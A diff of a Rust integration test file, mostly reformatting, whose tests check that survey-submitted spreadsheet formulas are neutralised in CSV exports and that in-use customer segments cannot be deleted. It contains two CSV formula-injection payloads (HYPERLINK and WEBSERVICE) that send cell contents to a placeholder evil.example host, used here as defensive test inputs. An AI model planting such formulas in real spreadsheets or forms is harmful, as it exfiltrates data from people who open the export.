@@ -32,11 +32,7 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
         .await;
     assert_eq!(s, StatusCode::OK, "{survey}");
     let sid = survey["id"].as_str().unwrap();
-    let url = format!(
-        "{}/s/a/{}",
-        app.base,
-        survey["public_key"].as_str().unwrap()
-    );
+    let url = format!("{}/s/a/{}", app.base, survey["public_key"].as_str().unwrap());
 
     // What an anonymous visitor sends, and the cell the CSM's export must hold.
     let exfiltrate = r#"=HYPERLINK("https://evil.example/?d="&H2,"x")"#;
@@ -60,12 +56,8 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
     // A free-text extra question is a second way in.
     let answer = r#"=WEBSERVICE("https://evil.example/?"&I2)"#;
     assert_eq!(
-        post_status(
-            &web,
-            &url,
-            &[("score", "5"), ("comment", "See my answer"), ("q1", answer)]
-        )
-        .await,
+        post_status(&web, &url, &[("score", "5"), ("comment", "See my answer"), ("q1", answer)])
+            .await,
         StatusCode::SEE_OTHER
     );
 
@@ -97,30 +89,21 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
     assert_eq!(&with_answer[answer_col], format!("'{answer}"));
     // Whatever else is in the file, no cell starts like a formula.
     for cell in headers.iter().chain(rows.iter().flat_map(|r| r.iter())) {
-        assert!(
-            !cell.starts_with(FORMULA_STARTS),
-            "a cell starts like a formula: {cell:?}"
-        );
+        assert!(!cell.starts_with(FORMULA_STARTS), "a cell starts like a formula: {cell:?}");
     }
 }
 
 // ---- settings pulled out from under their users ---------------------------------------------
 
 async fn save_segment(c: &Client, name: &str, query: &str) -> String {
-    let b = c
-        .ok("segments/save", &[("name", name), ("query", query)])
-        .await;
+    let b = c.ok("segments/save", &[("name", name), ("query", query)]).await;
     b["id"].as_str().unwrap().to_string()
 }
 
 async fn segment_ids(c: &Client) -> Vec<String> {
     let (s, b) = c.call("segments/list", &[]).await;
     assert_eq!(s, StatusCode::OK, "{b}");
-    b.as_array()
-        .unwrap()
-        .iter()
-        .map(|s| s["id"].as_str().unwrap().to_string())
-        .collect()
+    b.as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap().to_string()).collect()
 }
 
 /// Tries to delete `id`: refused with 409, a message naming each of `users`, and still there.
@@ -153,11 +136,7 @@ async fn add_qbr_rule(admin: &Client, segment: &str) {
     admin
         .ok(
             "engagement/rules/add",
-            &[
-                ("input[segment_id]", segment),
-                ("input[kind]", "qbr"),
-                ("input[every_days]", "90"),
-            ],
+            &[("input[segment_id]", segment), ("input[kind]", "qbr"), ("input[every_days]", "90")],
         )
         .await;
 }
@@ -180,8 +159,7 @@ async fn segment_survey(c: &Client, name: &str, segment: &str, recurrence_months
 }
 
 async fn close_survey(c: &Client, id: &str) {
-    c.ok("surveys/set_active", &[("id", id), ("active", "false")])
-        .await;
+    c.ok("surveys/set_active", &[("id", id), ("active", "false")]).await;
 }
 
 #[tokio::test]
@@ -200,18 +178,9 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     );
     // The way out is an admin's: stop using the model (a CSM may not; the default model
     // cannot be retired). Then the segment may go, and its accounts fall to the default.
-    csm.expect(
-        StatusCode::FORBIDDEN,
-        "health/retire_model",
-        &[("scope", modelled.as_str())],
-    )
-    .await;
-    admin
-        .invalid("health/retire_model", &[("scope", "default")])
-        .await;
-    admin
-        .ok("health/retire_model", &[("scope", modelled.as_str())])
-        .await;
+    csm.expect(StatusCode::FORBIDDEN, "health/retire_model", &[("scope", modelled.as_str())]).await;
+    admin.invalid("health/retire_model", &[("scope", "default")]).await;
+    admin.ok("health/retire_model", &[("scope", modelled.as_str())]).await;
     let in_force = app::store::health::current_models(&app.db).await.unwrap();
     assert!(in_force.iter().all(|m| m.scope != modelled), "retired");
     assert_eq!(
@@ -224,9 +193,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
         1,
         "its versions stay for the history"
     );
-    let (s, _) = admin
-        .call("health/retire_model", &[("scope", modelled.as_str())])
-        .await;
+    let (s, _) = admin.call("health/retire_model", &[("scope", modelled.as_str())]).await;
     assert_eq!(s, StatusCode::NOT_FOUND, "nothing left to retire");
     let (s, b) = csm.call("segments/delete", &[("id", &modelled)]).await;
     assert_eq!(s, StatusCode::OK, "{b}");
@@ -242,18 +209,12 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     .await;
     let (s, rules) = admin.call("engagement/rules", &[]).await;
     assert_eq!(s, StatusCode::OK, "{rules}");
-    let rule = rules
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|r| r["segment_id"] == ruled.as_str())
-        .unwrap()["id"]
-        .as_str()
-        .unwrap()
-        .to_string();
-    let (s, b) = admin
-        .call("engagement/rules/remove", &[("id", &rule)])
-        .await;
+    let rule =
+        rules.as_array().unwrap().iter().find(|r| r["segment_id"] == ruled.as_str()).unwrap()["id"]
+            .as_str()
+            .unwrap()
+            .to_string();
+    let (s, b) = admin.call("engagement/rules/remove", &[("id", &rule)]).await;
     assert_eq!(s, StatusCode::OK, "{b}");
     let (s, b) = csm.call("segments/delete", &[("id", &ruled)]).await;
     assert_eq!(s, StatusCode::OK, "{b}");
@@ -273,9 +234,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     let one_off = segment_survey(&csm, "Launch CSAT", &one_off_segment, "").await;
     refused_while_used(&csm, &one_off_segment, &["the survey “Launch CSAT”"]).await;
     close_survey(&csm, &one_off).await;
-    let (s, b) = csm
-        .call("segments/delete", &[("id", &one_off_segment)])
-        .await;
+    let (s, b) = csm.call("segments/delete", &[("id", &one_off_segment)]).await;
     assert_eq!(s, StatusCode::OK, "{b}");
 
     // Everything at once: one sentence naming each user.
@@ -304,9 +263,6 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     for id in [&surveyed, &shared] {
         assert!(left.contains(id), "{id} should still exist: {left:?}");
     }
-    assert!(
-        !left.contains(&modelled),
-        "deleted once its model was retired"
-    );
+    assert!(!left.contains(&modelled), "deleted once its model was retired");
     assert_eq!(left.len(), 2, "{left:?}");
 }
